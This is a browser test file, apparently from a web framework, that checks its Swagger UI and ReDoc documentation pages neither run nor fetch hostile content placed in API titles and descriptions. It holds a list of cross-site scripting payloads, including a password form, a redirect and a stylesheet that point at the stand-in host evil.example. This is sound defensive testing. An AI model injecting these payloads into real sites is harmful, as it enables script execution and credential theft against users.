// Documents whose texts come from strangers: HTML and script in titles and descriptions are shown or dropped, and never run.
import { App, get, router } from "apus";
import { expect, test } from "vitest";
import { z } from "zod";
import { inBrowser, testBrowser } from "../browser.ts";
import { served } from "./shop.ts";

const browser = testBrowser();

const act = "document.documentElement.dataset.acted=1";
const hostile = [
  `</title></script><script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"></svg>`,
  `<a href="javascript:${act}">link</a> [link](javascript:${act})`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  `<details open ontoggle="${act}"></details>`,
  `<form action="https://evil.example/"><input name=password></form>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>*{background:url(https://evil.example/)}</style><link rel=stylesheet href=https://evil.example/>`,
].join("\n\n");

/** An app that puts the text wherever a document has one. */
function app(): App {
  const Item = z.object({ name: z.string().meta({ title: hostile, description: hostile, examples: [hostile] }) });
  const read = get(
    "/items/{id}",
    {
      input: { id: z.string().meta({ description: hostile, examples: [hostile] }) },
      output: Item.meta({ id: "Item", title: hostile, description: hostile }),
      summary: hostile,
      description: hostile,
      responseDescription: hostile,
      tags: ["items"],
    },
    () => ({ name: "" }),
  );
  return new App({
    title: hostile,
    version: hostile,
    description: hostile,
    openapiTags: [{ name: "items", description: hostile }],
    contact: { name: hostile, url: `javascript:${act}` },
    license: { name: hostile, url: `javascript:${act}` },
    swaggerUiParameters: { docExpansion: "full", defaultModelExpandDepth: 9 },
  }).include(router({ read }));
}

test.each([
  ["/docs", ".opblock .opblock-body .responses-wrapper", "h1.title"],
  ["/redoc", "h2", "h1"],
])("on %s nothing runs and nothing is asked of another server", inBrowser, async (path, ready, title) => {
  const { url } = await served(app());
  const page = await browser.open(url + path);
  await page.see(ready);
  // its title is shown as the text that it is
  expect(await page.evaluate(`document.querySelector(${JSON.stringify(title)}).textContent`)).toContain("<script>");
  expect(await page.evaluate("document.documentElement.dataset.acted ?? null")).toBe(null);
  // ReDoc leaves contact and licence as links to script; the policy keeps them from running
  const links = `[...document.links].filter(({ protocol }) => protocol === "javascript:")`;
  await page.evaluate(`${links}.forEach((link) => { link.target = ""; link.click(); })`);
  await page.until(`new Promise((resolve) => setTimeout(resolve, 0, true))`);
  expect(await page.evaluate("document.documentElement.dataset.acted ?? null")).toBe(null);
  expect(await page.evaluate("location.pathname")).toBe(path);
  expect(await page.evaluate("document.baseURI")).toBe(url + path);
  // what was refused was refused before it was sent
  const sent = page.requests.filter(({ failure }) => failure !== "csp").map((request) => new URL(request.url));
  expect([...new Set(sent.filter(({ protocol }) => protocol === "http:").map(({ origin }) => origin))]).toEqual([url]);
});
